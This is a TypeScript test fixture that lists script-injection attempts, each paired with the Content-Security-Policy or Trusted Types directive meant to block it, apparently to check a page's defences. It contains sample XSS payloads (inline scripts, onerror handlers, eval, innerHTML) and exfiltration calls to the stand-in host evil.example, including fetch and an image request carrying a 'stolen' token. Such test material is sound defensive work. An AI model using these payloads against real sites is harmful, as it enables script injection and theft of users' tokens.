/** Attempts of injected code, each with the directive that forbids it. Runs in the page. */
export const PAGE_ATTACKS: [what: string, directive: RegExp, attack: () => unknown][] = [
  [
    "an inline script",
    /^require-trusted-types-for|^script-src/,
    () => {
      const script = document.createElement("script");
      script.textContent = "globalThis.owned = true";
      document.head.append(script);
    },
  ],
  [
    "an inline handler",
    /^require-trusted-types-for|^script-src/,
    () => {
      const image = document.createElement("img");
      image.setAttributeNS(null, "onerror", "globalThis.owned = true");
      image.src = "/nothing.png";
      document.body.append(image);
    },
  ],
  [
    "eval",
    /^require-trusted-types-for|^script-src/,
    // Code evaluated by a test may call eval; code run by a timer may not.
    // oxlint-disable-next-line no-eval, no-implied-eval
    () => setTimeout(() => void globalThis.eval("globalThis.owned = true"), 0),
  ],
  [
    "a timer of text",
    /^require-trusted-types-for|^script-src/,
    // oxlint-disable-next-line no-eval, no-implied-eval
    () => setTimeout("globalThis.owned = true", 0),
  ],
  [
    "markup from a string",
    /^require-trusted-types-for/,
    () => {
      document.body.innerHTML = "<img src=x onerror='globalThis.owned = true'>";
    },
  ],
  [
    "a foreign script",
    /^require-trusted-types-for|^script-src/,
    () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js";
      document.head.append(script);
    },
  ],
  [
    "a policy that lets strings through",
    /^trusted-types/,
    () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
      };
      trustedTypes.createPolicy("default", { createHTML: (text: string) => text });
    },
  ],
  ["a foreign call", /^connect-src/, () => fetch("https://evil.example/?token=stolen")],
  ["a foreign beacon", /^connect-src/, () => navigator.sendBeacon("https://evil.example/", "x")],
  [
    "a foreign picture",
    /^img-src/,
    () => {
      new Image().src = "https://evil.example/x.png?token=stolen";
    },
  ],
  [
    "a foreign frame",
    /^frame-src/,
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(frame);
    },
  ],
  [
    "a form that leaves",
    /^form-action/,
    () => {
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
    },
  ],
  [
    "a foreign base address",
    /^base-uri/,
    () => {
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
    },
  ],
  [
    "an inline style",
    /^style-src/,
    () => {
      const style = document.createElement("style");
      style.textContent = "body { background: url(https://evil.example/) }";
      document.head.append(style);
    },
  ],
  [
    "a foreign worker",
    /^worker-src|^script-src|^require-trusted-types-for/,
    () => new Worker("https://evil.example/w.js"),
  ],
];
